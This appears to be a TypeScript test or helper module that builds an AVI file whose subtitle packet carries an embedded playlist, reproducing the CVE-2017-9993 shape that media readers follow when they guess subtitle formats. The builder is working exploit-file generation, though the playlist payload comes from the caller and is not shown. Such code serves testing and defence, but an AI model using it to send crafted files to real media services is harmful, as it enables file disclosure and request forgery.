/**
 * An AVI of one picture with a subtitle packet that holds a play list (the shape of CVE-2017-9993): readers that guess
 * the format of subtitles follow it. `jpeg`: 64 by 64 pixels.
 */
export function buildAviWithList(jpeg: Buffer, list: string): Buffer {
  const main = words(200_000, 0, 0, 0x10, 1, 0, 2, 0, 64, 64, 0, 0, 0, 0);
  const picture = Buffer.concat([
    words(40, 64, 64),
    halves(1, 24),
    Buffer.from('MJPG'),
    words(64 * 64 * 3, 0, 0, 0, 0),
  ]);
  const streams = [
    part('LIST', Buffer.from('strl'), part('strh', streamHeader('vids', 'MJPG')), part('strf', picture)),
    part('LIST', Buffer.from('strl'), part('strh', streamHeader('txts', '\0\0\0\0')), part('strf')),
  ];
  const subtitle = Buffer.concat([
    Buffer.from('GAB2\0'),
    halves(2),
    words(0),
    halves(4),
    words(list.length),
    Buffer.from(list),
  ]);
  return part(
    'RIFF',
    Buffer.from('AVI '),
    part('LIST', Buffer.from('hdrl'), part('avih', main), ...streams),
    part('LIST', Buffer.from('movi'), part('00dc', jpeg), part('01tx', subtitle)),
  );
}

function streamHeader(kind: string, handler: string): Buffer {
  const names = Buffer.from(kind + handler, 'latin1');
  return Buffer.concat([names, words(0), halves(0, 0), words(0, 1, 5, 0, 1, 0, -1, 0), halves(0, 0, 64, 64)]);
}

function part(name: string, ...bodies: readonly Buffer[]): Buffer {
  const body = Buffer.concat(bodies);
  return Buffer.concat([Buffer.from(name), words(body.length), body, Buffer.alloc(body.length % 2)]);
}

function words(...values: number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeInt32LE(value, index * 4);
  return bytes;
}

function halves(...values: number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 2);
  for (const [index, value] of values.entries()) bytes.writeUInt16LE(value, index * 2);
  return bytes;
}
